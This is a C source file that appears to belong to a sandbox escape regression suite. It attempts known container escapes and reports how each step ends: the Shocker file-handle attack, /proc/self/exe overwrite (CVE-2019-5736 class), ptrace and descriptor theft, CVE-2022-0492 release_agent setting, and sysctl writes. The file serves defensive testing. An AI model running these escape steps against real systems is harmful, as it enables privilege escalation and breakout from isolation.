/*
 * try-attack.c - the escape regression suite's attacks that need more than
 * try-escape has: each makes the real attack (not a probe of one system
 * call) and prints how every step ended as "KEY=VALUE" lines (an errno, 0
 * for success, or data).  test-sec-escapes judges from the host's side.
 *
 * Usage: try-attack COMMAND ARG...
 *   shocker PATH            open the root of PATH's file system by a
 *                           guessed handle (Docker 0.11's "Shocker")
 *   map-files PATH          rewrite every file mapped into this process
 *                           through /proc/self/map_files and
 *                           /proc/self/exe, then PATH (CVE-2019-5736's class)
 *   siblings                trace, poke and steal a descriptor of a child
 *   pids PID...             trace, poke, steal from and signal host PIDs
 *   release-agent PAYLOAD   CVE-2022-0492: a cgroup v1 hierarchy of our
 *                           own, its release_agent set to PAYLOAD
 *   unix-path PATH...       connect to file-system unix sockets and send
 *   kallsyms                count the kernel's addresses /proc/kallsyms
 *                           shows
 *   sysctl NAME VALUE       write VALUE into /proc/sys/NAME
 *   fds-all                 every descriptor of every process in sight,
 *                           and the cwd and root of each
 *   deny-flood N            N denied system calls (ptrace), counting EPERM
 *   notify-flood N          N shared anonymous mmap()s, each one a question
 *                           to the supervisor when it watches memory
 *   args                    print the number of arguments and their bytes
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAYLOAD "sbx-attack-payload"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_pidfd_send_signal
#define SYS_pidfd_send_signal 424
#endif

static void show(const char *key, long r)
{
	printf("%s=%d\n", key, r < 0 ? errno : 0);
}

/* ---- Shocker ------------------------------------------------------ */

/*
 * The handle of inode 2 (the root of ext2/3/4) with generation 0, in the
 * FILEID_INO32_GEN form every exportable file system decodes: Shocker
 * walked from there to /etc/shadow.  Any fd on the file system names it,
 * a bound file's too.
 */
static int cmd_shocker(const char *path)
{
	struct {
		unsigned int handle_bytes;
		int handle_type;
		uint32_t ino, gen;
	} h = { 8, 1 /* FILEID_INO32_GEN */, 2, 0 };
	struct {
		unsigned int handle_bytes;
		int handle_type;
		unsigned char f[128];
	} own = { 128, 0, { 0 } };
	int dfd = open(path, O_RDONLY | O_CLOEXEC), fd, mnt = 0;

	show("fd", dfd);
	if (dfd < 0)
		return 0;
	show("name-to-handle",
	     syscall(SYS_name_to_handle_at, dfd, "", &own, &mnt,
		     AT_EMPTY_PATH));
	fd = (int)syscall(SYS_open_by_handle_at, dfd, &h,
			  O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	show("open-by-handle", fd);
	if (fd >= 0) {
		DIR *d = fdopendir(fd);
		struct dirent *de;

		while (d && (de = readdir(d)))
			printf("entry=%s\n", de->d_name);
		if (d)
			closedir(d);
	}
	return 0;
}

/* ---- the runtime's and the libraries' files ----------------------- */

/* Open path to write, every way a path allows, and change its mode to
 * what it is: each success is the attack working (nothing is written, so
 * that a hole found here does not break the host's binaries). */
static void rewrite(const char *key, const char *path)
{
	struct stat st;
	char k[256];
	int fd;

	snprintf(k, sizeof(k), "%s-wronly", key);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	show(k, fd);
	if (fd >= 0)
		close(fd);
	snprintf(k, sizeof(k), "%s-rdwr", key);
	fd = open(path, O_RDWR | O_CLOEXEC);
	show(k, fd);
	if (fd >= 0)
		close(fd);
	snprintf(k, sizeof(k), "%s-chmod", key);
	show(k, stat(path, &st) < 0 ? -1 : chmod(path, st.st_mode & 07777));
}

static int cmd_map_files(const char *path)
{
	DIR *d = opendir("/proc/self/map_files");
	struct dirent *de;
	int opened = 0, tried = 0;

	show("map-files-dir", d ? 0 : -1);
	while (d && (de = readdir(d))) {
		char p[PATH_MAX];
		int fd;

		if (de->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "/proc/self/map_files/%s", de->d_name);
		tried++;
		fd = open(p, O_RDWR | O_CLOEXEC);
		if (fd < 0)
			fd = open(p, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			printf("map-opened=%s\n", de->d_name);
			opened++;
			close(fd);
		} else if (tried == 1) {
			show("map-first", -1);
		}
	}
	if (d)
		closedir(d);
	printf("map-tried=%d\nmap-writable=%d\n", tried, opened);
	rewrite("self-exe", "/proc/self/exe");
	rewrite("init-exe", "/proc/1/exe");
	rewrite("path", path);
	return 0;
}

/* ---- other processes: trace, poke, steal, signal ------------------ */

static volatile char victim_byte = 'A';

/* What one process may do to another: each step's errno. */
static void attack_pid(const char *tag, pid_t pid, int sig)
{
	char key[64], byte = 'X';
	struct iovec local = { &byte, 1 },
		     remote = { (void *)&victim_byte, 1 };
	long pfd;

#define K(s) (snprintf(key, sizeof(key), "%s-%s", tag, s), key)
	show(K("attach"), ptrace(PTRACE_ATTACH, pid, NULL, NULL));
	show(K("seize"), ptrace(PTRACE_SEIZE, pid, NULL, NULL));
	show(K("vm-write"), process_vm_writev(pid, &local, 1, &remote, 1, 0));
	show(K("vm-read"), process_vm_readv(pid, &local, 1, &remote, 1, 0));
	pfd = syscall(SYS_pidfd_open, pid, 0);
	show(K("pidfd-open"), pfd);
	if (pfd >= 0) {
		long fd = syscall(SYS_pidfd_getfd, pfd, 1, 0);

		show(K("pidfd-getfd"), fd);
		if (fd >= 0)
			close((int)fd);
		if (sig)
			show(K("pidfd-signal"),
			     syscall(SYS_pidfd_send_signal, pfd, sig, NULL, 0));
		close((int)pfd);
	} else {
		printf("%s=%d\n", K("pidfd-getfd"), EBADF);
	}
	if (sig) {
		show(K("kill"), kill(pid, sig));
		show(K("tgkill"), syscall(SYS_tgkill, pid, pid, sig));
		show(K("kill-group"), kill(-pid, sig));
	}
#undef K
}

/* A child of our own: the filter, not the PID namespace, must stop us. */
static int cmd_siblings(void)
{
	int p[2], st;
	char c;
	pid_t pid;

	if (pipe(p) < 0)
		return 1;
	pid = fork();
	if (pid == 0) {
		close(p[0]);
		if (write(p[1], "r", 1) < 0)
			_exit(1);
		sleep(2);
		/* did anyone write into us? */
		_exit(victim_byte == 'A' ? 0 : 42);
	}
	close(p[1]);
	if (pid < 0 || read(p[0], &c, 1) != 1)
		return 1;
	attack_pid("sibling", pid, 0);
	waitpid(pid, &st, 0);
	printf("sibling-intact=%d\n",
	       WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 1 : 0);
	return 0;
}

static int cmd_pids(int argc, char **argv)
{
	int i;

	for (i = 0; i < argc; i++) {
		char tag[32];

		snprintf(tag, sizeof(tag), "pid%d", i);
		/* SIGUSR1: a host process that catches it counts it */
		attack_pid(tag, (pid_t)atoi(argv[i]), SIGUSR1);
	}
	show("kill-all", kill(-1, SIGUSR1));
	return 0;
}

/* ---- CVE-2022-0492 ------------------------------------------------ */

/* Set a release_agent (and notify_on_release) below dir. */
static void set_agent(const char *key, const char *dir, const char *payload)
{
	char path[PATH_MAX], k[128];
	int fd;

	snprintf(path, sizeof(path), "%s/release_agent", dir);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	snprintf(k, sizeof(k), "%s-agent", key);
	show(k, fd < 0 ? -1 : write(fd, payload, strlen(payload)));
	if (fd >= 0)
		close(fd);
	snprintf(path, sizeof(path), "%s/notify_on_release", dir);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	snprintf(k, sizeof(k), "%s-notify", key);
	show(k, fd < 0 ? -1 : write(fd, "1", 1));
	if (fd >= 0)
		close(fd);
}

static int cmd_release_agent(const char *payload)
{
	static const char *const ctrls[] = { "rdma", "memory", "pids",
					     "cpu", "none,name=sbx" };
	char dir[64];
	size_t i;
	DIR *d;
	struct dirent *de;

	/* the exploit's first step: a user namespace of our own, in which
	 * we would be root and could mount cgroupfs */
	show("unshare",
	     unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	show("unshare-cgroup", unshare(CLONE_NEWCGROUP));
	for (i = 0; i < sizeof(ctrls) / sizeof(ctrls[0]); i++) {
		char key[32];

		snprintf(dir, sizeof(dir), "/tmp/sbx-cg%zu", i);
		mkdir(dir, 0700);
		snprintf(key, sizeof(key), "mount%zu", i);
		show(key, mount("cgroup", dir, "cgroup", 0, ctrls[i]));
		snprintf(key, sizeof(key), "cg%zu", i);
		set_agent(key, dir, payload);
	}
	show("fsopen", syscall(SYS_fsopen, "cgroup", 0));
	/* whatever hierarchy the sandbox can see already */
	d = opendir("/sys/fs/cgroup");
	show("sys-cgroup", d ? 0 : -1);
	while (d && (de = readdir(d))) {
		char path[PATH_MAX];

		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "/sys/fs/cgroup/%s", de->d_name);
		printf("seen=%s\n", path);
		set_agent("sys", path, payload);
	}
	if (d)
		closedir(d);
	show("mount-sysfs", mount("sysfs", "/tmp", "sysfs", 0, NULL));
	return 0;
}

/* ---- file-system unix sockets ------------------------------------- */

static int cmd_unix_path(int argc, char **argv)
{
	int i;

	for (i = 0; i < argc; i++) {
		struct sockaddr_un a = { .sun_family = AF_UNIX };
		char key[32];
		int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		snprintf(a.sun_path, sizeof(a.sun_path), "%s", argv[i]);
		snprintf(key, sizeof(key), "connect%d", i);
		if (s < 0) {
			show(key, -1);
			continue;
		}
		if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
			show(key, -1);
		} else {
			show(key, 0);
			snprintf(key, sizeof(key), "send%d", i);
			show(key, send(s, PAYLOAD, sizeof(PAYLOAD) - 1, 0));
		}
		close(s);
	}
	return 0;
}

/* ---- /proc -------------------------------------------------------- */

static int cmd_kallsyms(void)
{
	FILE *f = fopen("/proc/kallsyms", "re");
	char line[512];
	long n = 0, nonzero = 0;

	show("open", f ? 0 : -1);
	while (f && fgets(line, sizeof(line), f)) {
		n++;
		if (strtoull(line, NULL, 16) != 0)
			nonzero++;
	}
	if (f)
		fclose(f);
	printf("symbols=%ld\nnonzero=%ld\n", n, nonzero);
	return 0;
}

static int cmd_sysctl(const char *name, const char *value)
{
	char path[PATH_MAX];
	int fd;

	snprintf(path, sizeof(path), "/proc/sys/%s", name);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	show("open", fd);
	if (fd >= 0) {
		show("write", write(fd, value, strlen(value)));
		close(fd);
	}
	return 0;
}

/* Every descriptor in sight: "fd PID N -> TARGET opened=ERRNO", and each
 * process's cwd and root, by readlink and by opening them. */
static int cmd_fds_all(void)
{
	DIR *procs = opendir("/proc");
	struct dirent *pe;
	char self[16];

	snprintf(self, sizeof(self), "%d", (int)getpid());
	while (procs && (pe = readdir(procs))) {
		char path[300], target[PATH_MAX];
		DIR *fds;
		struct dirent *de;
		ssize_t n;
		int fd;

		if (pe->d_name[0] < '1' || pe->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd", pe->d_name);
		fds = opendir(path);
		printf("fddir %s=%d\n", pe->d_name, fds ? 0 : errno);
		while (fds && (de = readdir(fds))) {
			char p[600];

			if (de->d_name[0] == '.')
				continue;
			snprintf(p, sizeof(p), "%s/%s", path, de->d_name);
			n = readlink(p, target, sizeof(target) - 1);
			target[n > 0 ? n : 0] = '\0';
			fd = open(p, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
			printf("fd %s %s -> %s opened=%d\n", pe->d_name,
			       de->d_name, target, fd < 0 ? errno : 0);
			if (fd >= 0)
				close(fd);
		}
		if (fds)
			closedir(fds);
		snprintf(path, sizeof(path), "/proc/%s/cwd", pe->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		printf("cwd %s -> %s opened=%d\n", pe->d_name,
		       n < 0 ? "?" : target, fd < 0 ? errno : 0);
		if (fd >= 0)
			close(fd);
		snprintf(path, sizeof(path), "/proc/%s/root", pe->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		printf("root %s -> %s\n", pe->d_name, n < 0 ? "?" : target);
	}
	if (procs)
		closedir(procs);
	printf("self=%s\n", self);
	return 0;
}

/* ---- floods ------------------------------------------------------- */

static int cmd_deny_flood(long n)
{
	long i, eperm = 0;

	for (i = 0; i < n; i++)
		if (syscall(SYS_ptrace, PTRACE_CONT, 0, 0, 0) < 0 &&
		    errno == EPERM)
			eperm++;
	printf("calls=%ld\neperm=%ld\n", n, eperm);
	return 0;
}

static int cmd_notify_flood(long n)
{
	long i, ok = 0;

	for (i = 0; i < n; i++) {
		void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			       MAP_SHARED | MAP_ANONYMOUS, -1, 0);

		if (p != MAP_FAILED) {
			ok++;
			munmap(p, 4096);
		}
	}
	printf("calls=%ld\nmapped=%ld\n", n, ok);
	return 0;
}

static int cmd_args(int argc, char **argv)
{
	size_t bytes = 0;
	int i;

	for (i = 0; i < argc; i++)
		bytes += strlen(argv[i]);
	printf("argc=%d\nbytes=%zu\n", argc, bytes);
	return 0;
}

static int usage(void)
{
	fprintf(stderr, "usage: try-attack COMMAND ARG... (see the source)\n");
	return 2;
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(c, "shocker") && argc == 3)
		return cmd_shocker(argv[2]);
	if (!strcmp(c, "map-files") && argc == 3)
		return cmd_map_files(argv[2]);
	if (!strcmp(c, "siblings") && argc == 2)
		return cmd_siblings();
	if (!strcmp(c, "pids") && argc >= 3)
		return cmd_pids(argc - 2, argv + 2);
	if (!strcmp(c, "release-agent") && argc == 3)
		return cmd_release_agent(argv[2]);
	if (!strcmp(c, "unix-path") && argc >= 3)
		return cmd_unix_path(argc - 2, argv + 2);
	if (!strcmp(c, "kallsyms") && argc == 2)
		return cmd_kallsyms();
	if (!strcmp(c, "sysctl") && argc == 4)
		return cmd_sysctl(argv[2], argv[3]);
	if (!strcmp(c, "fds-all") && argc == 2)
		return cmd_fds_all();
	if (!strcmp(c, "deny-flood") && argc == 3)
		return cmd_deny_flood(atol(argv[2]));
	if (!strcmp(c, "notify-flood") && argc == 3)
		return cmd_notify_flood(atol(argv[2]));
	if (!strcmp(c, "args"))
		return cmd_args(argc - 2, argv + 2);
	return usage();
}
